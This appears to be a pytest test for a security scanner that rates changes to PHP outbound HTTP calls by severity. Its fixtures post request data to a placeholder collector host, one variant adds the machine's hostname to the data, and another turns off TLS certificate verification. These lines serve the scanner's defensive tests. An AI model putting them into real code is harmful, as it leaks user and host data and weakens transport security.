"""A call that goes where it went, with the same code, by other functions than before, and one that does not."""

from __future__ import annotations

from pathlib import Path

import pytest

from scanner.model.finding import Severity
from scanner.model.report import BaselineState
from scanner.pipeline import ScanOptions, diff
from tests.pipeline.trees import write_tree

OLD = (
    "<?php function send($u, $d) { $c = curl_init($u); curl_setopt($c, CURLOPT_POSTFIELDS, $d); return curl_exec($c); }"
)
BY_CLIENT = "<?php function send($u, $d) { return (new GuzzleHttp\\Client())->post($u, ['body' => $d]); }"
UNCHECKED = OLD.replace("return", "curl_setopt($c, CURLOPT_SSL_VERIFYPEER, false); return")
CALL = "<?php send('https://collector.example.net/v1', $_POST['x']);"
CASES = {
    "another function inside": (BY_CLIENT, CALL, {"low"}),
    "certificates are not checked": (UNCHECKED, CALL, {"medium"}),
    "another text is sent": (OLD, CALL.replace("$_POST['x']", "$_POST['x'] . gethostname()"), {"medium"}),
    "another host": (OLD, CALL.replace("collector", "other"), {"high"}),
}


@pytest.mark.parametrize("name", CASES)
def test_a_call_counts_by_what_changed(tmp_path: Path, name: str) -> None:
    wrapper, call, expected = CASES[name]
    old = write_tree(tmp_path / "old", {"lib.php": OLD.encode(), "page.php": CALL.encode()})
    new = write_tree(tmp_path / "new", {"lib.php": wrapper.encode(), "page.php": call.encode()})
    comparison = diff(str(old), str(new), ScanOptions(cache=None, jobs=0))
    found = {
        change.finding.severity
        for change in comparison.changes
        if change.finding.path == "page.php"
        and change.finding.rule == "outbound-call"
        and change.state is BaselineState.UPDATED
    }
    assert found == {Severity(level) for level in expected}
